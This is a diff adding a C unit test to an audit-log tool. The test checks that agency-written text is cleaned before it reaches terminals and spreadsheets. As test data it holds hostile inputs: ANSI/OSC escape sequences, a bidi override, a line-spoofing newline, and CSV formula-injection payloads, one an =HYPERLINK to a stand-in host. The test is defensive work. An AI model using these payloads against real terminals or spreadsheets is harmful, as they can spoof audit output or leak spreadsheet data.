@@ -26,7 +26,9 @@
  *     under no checkpoint at all are not verified; proofs are verified
  *     only with every signature checked and every root known, and a
  *     pruned record's leaf is labelled as its tombstone's; the subject
- *     report says what retention per kind pruned.
+ *     report says what retention per kind pruned; text agencies wrote
+ *     reaches terminals without control characters and spreadsheets
+ *     without formulas.
  */
 #include <inttypes.h>
 #include <stdio.h>
@@ -1145,6 +1147,60 @@ START_TEST(test_subject_says_what_retention_per_kind_pruned)
 }
 END_TEST
 
+
+/* Text an agency wrote (here a legal basis with an OSC title, a screen
+ * clear, a C1 CSI and a bidirectional override) reaches the officer's
+ * terminal with its control characters replaced, and a CSV cell that a
+ * spreadsheet would run as a formula is kept as text; JSON keeps the
+ * bytes (escaped). */
+#define S_HOSTILE_BASIS "Wpg\x1b]0;pwned\x07\x1b[2J\xc2\x9b" "31m\xe2\x80\xae" "19"
+
+START_TEST(test_agency_text_is_made_safe_for_terminals_and_spreadsheets)
+{
+    s_log_t l;
+    s_log_open(&l);
+    s_log_records(&l, 2, S_HOSTILE_BASIS);
+    s_log_records(&l, 1, "=HYPERLINK(\"http://x.example/\"&A1)");
+    s_log_records(&l, 1, "@SUM(A1)");
+    s_log_close(&l);
+    char hex[65];
+    uint8_t subj[32];
+    memset(subj, S_LOG_SUBJECT_BYTE, sizeof subj);
+    kb_hex(subj, sizeof subj, hex);
+    int st = s_cli("audit subject --offline --data data --subject %s", hex);
+    ck_assert_msg(st == 0, "exit %d: %s", st, s_out);
+    ck_assert_msg(strchr(s_out, 0x1b) == NULL && strchr(s_out, 0x07) == NULL, "%s", s_out);
+    ck_assert_msg(strstr(s_out, "\xc2\x9b") == NULL && strstr(s_out, "\xe2\x80\xae") == NULL, "%s", s_out);
+    ck_assert_msg(strstr(s_out, "legal basis \"Wpg\xef\xbf\xbd]0;pwned\xef\xbf\xbd\xef\xbf\xbd[2J\xef\xbf\xbd"
+                                "31m\xef\xbf\xbd" "19\"") != NULL, "%s", s_out);
+    /* the table, with a hostile reason */
+    s_log_open(&l);
+    Ketenbus__AuditRecord r;
+    ketenbus__audit_record__init(&r);
+    r.time_us = S_T0;
+    r.event = KETENBUS__AUDIT_EVENT__AUDIT_EVENT_REFUSED;
+    r.agency = (char *)"politie\x1b[1A";
+    r.counterpart = (char *)"rvdk";
+    r.reason = (char *)"no rule\nfake line\x1b[2K";
+    ck_assert_int_eq(kb_store_audit_log(l.store, l.batch, l.tree, &r, NULL), KB_OK);
+    ck_assert_int_eq(kb_store_commit(l.store, l.batch, 1), KB_OK);
+    s_log_close(&l);
+    st = s_cli("audit query --offline --data data --event refused");
+    ck_assert_msg(st == 0 && strchr(s_out, 0x1b) == NULL, "exit %d: %s", st, s_out);
+    ck_assert_msg(strstr(s_out, "no rule\xef\xbf\xbd" "fake line\xef\xbf\xbd[2K\n") != NULL, "%s", s_out);
+    /* CSV: formulas become text */
+    st = s_cli("audit export --offline --data data --format csv");
+    ck_assert_msg(st == 0, "exit %d: %s", st, s_out);
+    ck_assert_msg(strstr(s_out, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1)\",") != NULL, "%s", s_out);
+    ck_assert_msg(strstr(s_out, ",'@SUM(A1),") != NULL, "%s", s_out);
+    ck_assert_msg(strstr(s_out, ",=") == NULL && strstr(s_out, ",\"=") == NULL && strstr(s_out, ",@") == NULL, "%s",
+                  s_out);
+    /* JSON keeps what was logged, escaped */
+    st = s_cli("audit query --offline --data data --event refused --json");
+    ck_assert_msg(st == 0 && strstr(s_out, "politie\\u001b[1A") != NULL, "exit %d: %s", st, s_out);
+}
+END_TEST
+
 static Suite *s_suite(void)
 {
     Suite *s = suite_create("audit");
@@ -1173,6 +1229,7 @@ static Suite *s_suite(void)
     tcase_add_test(tc, test_proofs_verified_only_when_checked);
     tcase_add_test(tc, test_proof_against_a_forged_checkpoint);
     tcase_add_test(tc, test_subject_says_what_retention_per_kind_pruned);
+    tcase_add_test(tc, test_agency_text_is_made_safe_for_terminals_and_spreadsheets);
     suite_add_tcase(s, tc);
     return s;
 }
